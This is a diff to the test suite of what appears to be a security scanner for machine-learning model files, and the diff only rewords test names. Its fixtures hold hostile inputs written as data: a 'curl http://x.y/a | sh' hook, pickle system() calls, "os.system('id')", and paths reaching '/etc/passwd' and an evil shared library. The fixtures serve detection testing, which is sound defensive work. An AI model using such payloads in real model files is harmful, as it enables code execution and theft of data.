@@ -99,7 +99,7 @@ const CLEAN: { file: string; format: string; bytes: () => Buffer }[] = [
   },
 ]
 
-/** A tree of XGBoost: texts, numbers of one type, an empty list and a nested object. */
+/** An XGBoost tree: texts, numbers of one type, an empty list, and a nested object. */
 const ubjson = (name: string) =>
   Buffer.from(
     `{L\0\0\0\0\0\0\0\x04nameSi${String.fromCharCode(name.length)}${name}i\x01w[$d#i\x02${'\0'.repeat(8)}i\x01e[]i\x01t{i\x01aT}i\x01b[#i\x02U\x01Z}`,
@@ -108,13 +108,13 @@ const ubjson = (name: string) =>
 
 const FINDINGS: { name: string; file: string; rule: string; bytes: () => Buffer }[] = [
   {
-    name: 'a TensorRT engine that is cut off',
+    name: 'a truncated TensorRT engine',
     file: 'm.engine',
     rule: 'model-structure',
     bytes: () => tensorRtOf(Buffer.alloc(64)).subarray(0, -8),
   },
   {
-    name: 'data behind a TensorRT engine',
+    name: 'data after the end of a TensorRT engine',
     file: 'm.engine',
     rule: 'model-structure',
     bytes: () => Buffer.concat([tensorRtOf(Buffer.alloc(64)), ZEROS]),
@@ -138,7 +138,7 @@ const FINDINGS: { name: string; file: string; rule: string; bytes: () => Buffer 
     bytes: () => tensorRtOf(Buffer.alloc(8), { token: `ghp_${'a1B2'.repeat(9)}` }),
   },
   {
-    name: 'an RKNN description that is cut off',
+    name: 'a truncated RKNN description',
     file: 'm.rknn',
     rule: 'model-structure',
     bytes: () => rknnOf(model).subarray(0, -4),
@@ -168,7 +168,7 @@ const FINDINGS: { name: string; file: string; rule: string; bytes: () => Buffer 
     bytes: () => catBoostOf().subarray(0, -40),
   },
   {
-    name: 'data behind a CatBoost model',
+    name: 'data after the end of a CatBoost model',
     file: 'm.cbm',
     rule: 'model-structure',
     bytes: () => Buffer.concat([catBoostOf(), ZEROS]),
@@ -180,7 +180,7 @@ const FINDINGS: { name: string; file: string; rule: string; bytes: () => Buffer 
     bytes: () => catBoostOf({ info: { params: '{"hook":"curl http://x.y/a | sh"}' } }),
   },
   {
-    name: 'a pickle behind a CatBoost model',
+    name: 'a pickle after the end of a CatBoost model',
     file: 'm.cbm',
     rule: 'pickle-dangerous-call',
     bytes: () => Buffer.concat([catBoostOf(), system()]),
@@ -204,7 +204,7 @@ const FINDINGS: { name: string; file: string; rule: string; bytes: () => Buffer 
     bytes: () => executorchOf({ setting: '/data/libevil.so' }),
   },
   {
-    name: 'MXNet parameters that are cut off',
+    name: 'truncated MXNet parameters',
     file: 'm.params',
     rule: 'model-structure',
     bytes: () => mxnetOf([array]).subarray(0, 80),
@@ -216,7 +216,7 @@ const FINDINGS: { name: string; file: string; rule: string; bytes: () => Buffer 
     bytes: () => mxnetOf([{ ...array, sizes: [2 ** 20, 2 ** 20] }]),
   },
   {
-    name: 'another number of names than of MXNet arrays',
+    name: 'MXNet parameters with more or fewer names than arrays',
     file: 'm.params',
     rule: 'model-structure',
     bytes: () => mxnetOf([array], { names: 0x7fff }),
@@ -252,13 +252,13 @@ const FINDINGS: { name: string; file: string; rule: string; bytes: () => Buffer 
     bytes: () => paddleOf([{ type: 'feed' }, { type: 'py_func' }]),
   },
   {
-    name: 'a path outside of the model in a Paddle program',
+    name: 'a path outside the model in a Paddle program',
     file: '__model__',
     rule: 'model-path-reference',
     bytes: () => paddleOf([{ type: 'feed', texts: { file_path: '../../secret' } }]),
   },
   {
-    name: 'Paddle parameters that are cut off',
+    name: 'truncated Paddle parameters',
     file: 'm.pdiparams',
     rule: 'model-structure',
     bytes: () => paddleTensorsOf([{ sizes: [16], values: ZEROS }]).subarray(0, -3),
@@ -288,38 +288,38 @@ const FINDINGS: { name: string; file: string; rule: string; bytes: () => Buffer 
     bytes: () => coreMlOf(556, linked('other.mlmodelc', '')),
   },
   {
-    name: 'weights of Core ML outside of the model',
+    name: 'Core ML weights outside the model',
     file: 'm.mlmodel',
     rule: 'model-path-reference',
     bytes: () => coreMlOf(502, program('@model_path/../../../secret.bin')),
   },
   {
-    name: 'a path outside of a Core ML package',
+    name: 'a path outside a Core ML package',
     file: 'Manifest.json',
     rule: 'model-path-reference',
     bytes: () =>
       json({ rootModelIdentifier: 'a', itemInfoEntries: { a: { path: '../../../etc/passwd' } } }),
   },
   {
-    name: 'a Core ML model that is cut off',
+    name: 'a truncated Core ML model',
     file: 'm.mlmodel',
     rule: 'model-structure',
     bytes: () => coreMlOf(500, layer(100, ZEROS)).subarray(0, -9),
   },
   {
-    name: 'code in a model of XGBoost',
+    name: 'code in an XGBoost model',
     file: 'm.ubj',
     rule: 'code-in-text',
     bytes: () => ubjson("os.system('id')"),
   },
   {
-    name: 'a model of XGBoost that is cut off',
+    name: 'a truncated XGBoost model',
     file: 'm.ubj',
     rule: 'model-structure',
     bytes: () => ubjson('gbtree').subarray(0, -9),
   },
   {
-    name: 'data behind a model of XGBoost',
+    name: 'data after the end of an XGBoost model',
     file: 'm.ubj',
     rule: 'model-structure',
     bytes: () => Buffer.concat([ubjson('gbtree'), ZEROS]),
@@ -337,7 +337,7 @@ const FINDINGS: { name: string; file: string; rule: string; bytes: () => Buffer 
     bytes: () => Buffer.concat([u32(3), u32(1), u32(2 ** 30), t7.text('a')]),
   },
   {
-    name: 'data behind a Torch7 value',
+    name: 'data after the end of a Torch7 value',
     file: 'm.t7',
     rule: 'model-structure',
     bytes: () => Buffer.concat([t7.tensor(1, ZEROS), ZEROS]),
@@ -365,7 +365,7 @@ test.group('Model audit: models for inference runtimes', () => {
     }
   })
 
-  test('a file whose content does not match its extension is a warning', async ({ assert }) => {
+  test('content that does not match the extension is a warning', async ({ assert }) => {
     for (const { file } of CLEAN.filter(({ format }) => !['json', 'mxnet'].includes(format))) {
       const result = await auditBytes(Buffer.alloc(64, 7), file)
       const rules = rulesOf(result)
@@ -374,7 +374,7 @@ test.group('Model audit: models for inference runtimes', () => {
   })
 
   for (const { name, file, bytes, rule } of FINDINGS) {
-    test(`${name} is reported as ${rule}`, async ({ assert }) => {
+    test(`the finding ${rule} is reported for ${name}`, async ({ assert }) => {
       assert.include(rulesOf(await auditBytes(bytes(), file)), rule)
     })
   }
